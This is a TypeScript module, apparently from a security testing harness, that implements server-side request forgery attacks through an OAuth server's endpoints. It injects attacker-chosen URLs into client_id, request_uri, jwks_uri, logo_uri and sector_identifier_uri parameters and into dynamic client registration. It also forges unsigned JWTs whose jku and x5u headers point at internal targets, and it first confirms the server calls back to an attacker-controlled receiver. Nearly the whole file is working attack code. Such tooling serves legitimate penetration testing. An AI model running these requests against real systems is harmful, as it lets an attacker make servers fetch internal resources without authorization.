// Attacks through OAuth clients: metadata documents, their links, and registrations.
import { Buffer } from 'node:buffer'
import type { Answer } from '../../target/requests.ts'
import type { Attacker, Door } from './door.ts'
import { requireControl } from './door.ts'
import type { Listeners } from './listeners.ts'
import { LINKS_OF_CLIENTS } from './listeners.ts'
import { RECEIVER_NAME } from './names.ts'
import type { Target } from './targets.ts'

const CALLBACK = `https://${RECEIVER_NAME}/callback`
const FORM = { 'content-type': 'application/x-www-form-urlencoded' }

export class OAuthDoor implements Door {
  readonly name = 'OAuth clients'
  readonly #attacker: Attacker
  readonly #listeners: Listeners

  constructor(attacker: Attacker, listeners: Listeners) {
    this.#attacker = attacker
    this.#listeners = listeners
  }

  async control(): Promise<void> {
    this.#listeners.takeReceived()
    const clientId = `https://${RECEIVER_NAME}/client-${this.#attacker.unique()}`
    const answer = await this.#authorize({ client_id: clientId })
    const isReached = this.#listeners.takeReceived().includes(`GET ${clientId}`)
    requireControl(isReached && answer.status < 400, 'a client metadata document', `${answer.status} ${answer.text}`)
  }

  async attack(target: Target): Promise<void> {
    const hostile = () => this.#attacker.urlOf(target)
    await this.#authorize({ client_id: hostile() })
    await this.#authorize({ client_id: `https://${RECEIVER_NAME}/client`, request_uri: hostile() })
    await this.#token({ client_id: hostile() })
    for (const only of ['', 'jwks_uri', 'sector_identifier_uri', 'logo_uri'])
      await this.#authorize({ client_id: this.#documentNaming(hostile(), { only }) })
    await this.#assert(this.#documentNaming(hostile(), { only: 'jwks_uri', method: 'private_key_jwt' }), hostile())
    await this.#register(LINKS_OF_CLIENTS, hostile())
    for (const name of ['jwks_uri', 'sector_identifier_uri', 'logo_uri']) await this.#register([name], hostile())
    const key = unsignedJwt({ jku: hostile(), x5u: hostile() }, { iss: hostile() })
    await this.#attacker.send('GET', '/api/v1/projects?limit=1', { key })
  }

  /** A document on the receiver that leads to `to`. */
  #documentNaming(to: string, options: Readonly<Record<string, string>>): string {
    const query = new URLSearchParams({ to, ...options, n: String(this.#attacker.unique()) })
    return `https://${RECEIVER_NAME}/lure/200?${query}`
  }

  #authorize(parameters: Readonly<Record<string, string>>): Promise<Answer> {
    const challenge = { code_challenge: 'a'.repeat(43), code_challenge_method: 'S256' }
    const query = { response_type: 'code', redirect_uri: CALLBACK, scope: 'projects:read', ...challenge, ...parameters }
    return this.#attacker.send('GET', `/oauth/authorize?${new URLSearchParams(query)}`)
  }

  #token(parameters: Readonly<Record<string, string>>): Promise<Answer> {
    const form = { grant_type: 'authorization_code', code: 'code', redirect_uri: CALLBACK, ...parameters }
    return this.#attacker.send('POST', '/oauth/token', { headers: FORM, body: new URLSearchParams(form).toString() })
  }

  /** A client that proves itself with a key, which the server would have to fetch. */
  #assert(clientId: string, jku: string): Promise<Answer> {
    const seconds = Math.floor(Date.now() / 1000)
    const claims = { iss: clientId, sub: clientId, aud: 'x', jti: 'x', iat: seconds, exp: seconds + 300 }
    return this.#token({
      client_id: clientId,
      client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
      client_assertion: unsignedJwt({ jku, x5u: jku }, claims),
    })
  }

  #register(names: readonly string[], url: string): Promise<Answer> {
    const links = Object.fromEntries(names.map((name) => [name, url]))
    return this.#attacker.send('POST', '/oauth/register', {
      body: { redirect_uris: [CALLBACK], token_endpoint_auth_method: 'none', request_uris: [url], ...links },
    })
  }
}

function unsignedJwt(header: object, claims: object): string {
  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
  return `${encode({ alg: 'ES256', typ: 'JWT', kid: 'x', ...header })}.${encode(claims)}.${'A'.repeat(86)}`
}
